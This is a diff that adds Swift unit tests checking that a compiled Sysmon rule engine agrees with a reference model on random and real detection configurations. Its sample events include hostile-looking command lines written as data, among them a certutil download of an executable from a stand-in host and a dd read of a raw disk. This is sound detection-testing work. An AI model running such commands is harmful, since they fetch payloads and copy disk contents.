@@ -1,0 +1,115 @@
+import Foundation
+import XCTest
+import SwiftmonCore
+@testable import SwiftmonRules
+
+/// The compiled, indexed ``RuleSet`` must decide exactly as the plain
+/// transcription of Sysmon's procedure (``ReferenceModel``): on random
+/// configurations built to collide, and on the real corpus configurations.
+final class ModelComparisonTests: XCTestCase {
+    struct Rng: RandomNumberGenerator {
+        var state: UInt64
+        mutating func next() -> UInt64 {
+            state &+= 0x9E37_79B9_7F4A_7C15
+            var z = state
+            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
+            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
+            return z ^ (z >> 31)
+        }
+    }
+
+    static let words = ["bash", "/usr/bin/bash", "/bin/", "sh", "-c", "curl", "root", "Alice", "x;y", "a", "", ";", "b;", "/usr/", "BASH", "c:\\windows\\cmd.exe", "cmd.exe", "1", "20", "3"]
+    static let fields = ["Image", "CommandLine", "User", "ParentImage"]
+
+    func randomValue(_ rng: inout Rng) -> String {
+        let n = Int.random(in: 0...3, using: &rng)
+        return (0..<n).map { _ in Self.words.randomElement(using: &rng)! }.joined()
+    }
+
+    func randomFilter(_ rng: inout Rng) -> String {
+        let field = Self.fields.randomElement(using: &rng)!
+        let condition = Condition.allCases.randomElement(using: &rng)!.rawValue
+        let name = Bool.random(using: &rng) ? " name=\"n\(Int.random(in: 0...99, using: &rng))\"" : ""
+        let value = randomValue(&rng).replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
+        return "<\(field) condition=\"\(condition)\"\(name)>\(value)</\(field)>"
+    }
+
+    func randomConfig(_ rng: inout Rng) -> String {
+        var body = ""
+        for _ in 0..<Int.random(in: 1...3, using: &rng) {
+            let relation = Bool.random(using: &rng) ? "and" : "or"
+            let onmatch = Bool.random(using: &rng) ? "include" : "exclude"
+            let groupName = Bool.random(using: &rng) ? "g\(Int.random(in: 0...9, using: &rng))" : ""
+            body += "<RuleGroup name=\"\(groupName)\" groupRelation=\"\(relation)\"><ProcessCreate onmatch=\"\(onmatch)\">"
+            for _ in 0..<Int.random(in: 0...8, using: &rng) {
+                if Int.random(in: 0..<4, using: &rng) == 0 {
+                    let r = Bool.random(using: &rng) ? "and" : "or"
+                    let rn = Bool.random(using: &rng) ? " name=\"r\(Int.random(in: 0...9, using: &rng))\"" : ""
+                    body += "<Rule groupRelation=\"\(r)\"\(rn)>"
+                    for _ in 0..<Int.random(in: 1...3, using: &rng) { body += randomFilter(&rng) }
+                    body += "</Rule>"
+                } else {
+                    body += randomFilter(&rng)
+                }
+            }
+            body += "</ProcessCreate></RuleGroup>"
+        }
+        return filtering(body)
+    }
+
+    func testRandomConfigurationsAgreeWithTheReference() throws {
+        var rng = Rng(state: 20240601)
+        var decisions = 0
+        var logged = 0
+        for _ in 0..<400 {
+            let xml = randomConfig(&rng)
+            let (parsed, d) = SysmonConfig.check(bytes: Array(xml.utf8), path: "random.xml")
+            guard let parsed, !d.hasErrors else { return XCTFail("\(d)\n\(xml)") }
+            let set = RuleSet(parsed)
+            let model = ReferenceModel(config: parsed)
+            for _ in 0..<40 {
+                var fields: [String: String] = [:]
+                for f in Self.fields where Bool.random(using: &rng) { fields[f] = randomValue(&rng) }
+                let e = event(fields)
+                let expected = model.decide(e)
+                let got = decide(set, e)
+                decisions += 1
+                if expected.0 { logged += 1 }
+                XCTAssertEqual(got.0, expected.0, "logged? \(fields)\n\(xml)")
+                if got.0 && expected.0 {
+                    XCTAssertEqual(got.1, expected.1 ?? "-", "RuleName for \(fields)\n\(xml)")
+                }
+                if got.0 != expected.0 || (got.0 && got.1 != (expected.1 ?? "-")) { return }
+            }
+        }
+        // The generator must exercise both outcomes, or the comparison proves little.
+        XCTAssertGreaterThan(logged, decisions / 10)
+        XCTAssertLessThan(logged, decisions * 9 / 10)
+    }
+
+    func testCorpusConfigurationsAgreeWithTheReference() throws {
+        let dir = try corpusDirectory().appendingPathComponent("sysmon-configs")
+        var samples = RuleBenchmark.processCreateSamples()
+        // Variants that hit common Windows rules.
+        for (image, cmd) in [("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
+                             ("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://x/a.exe"),
+                             ("/usr/bin/ssh", "ssh -o ConnectTimeout=5 -o BatchMode=yes -o StrictHostKeyChecking=no h curl"),
+                             ("/bin/dd", "dd if=/dev/sda of=/tmp/x"), ("/usr/bin/crontab", "crontab -l")] {
+            samples.append(event(["Image": image, "CommandLine": cmd, "ParentImage": "C:\\Windows\\explorer.exe", "User": "root"]))
+        }
+        for name in ["sysmon-modular-sysmonconfig.xml", "swiftonsecurity-sysmonconfig-export.xml", "mstic-linux-main.xml", "mstic-linux-collect-all.xml"] {
+            let (config, _) = try SysmonConfig.load(path: dir.appendingPathComponent(name).path)
+            let set = RuleSet(config)
+            let model = ReferenceModel(config: config)
+            var logged = 0
+            for e in samples {
+                let expected = model.decide(e)
+                let got = decide(set, e)
+                if got.0 { logged += 1 }
+                XCTAssertEqual(got.0, expected.0, "\(name): \(e["CommandLine"] ?? "")")
+                if got.0 && expected.0 { XCTAssertEqual(got.1, expected.1 ?? "-", "\(name): \(e["CommandLine"] ?? "")") }
+            }
+            XCTAssertGreaterThan(logged, 0, name)
+        }
+    }
+}
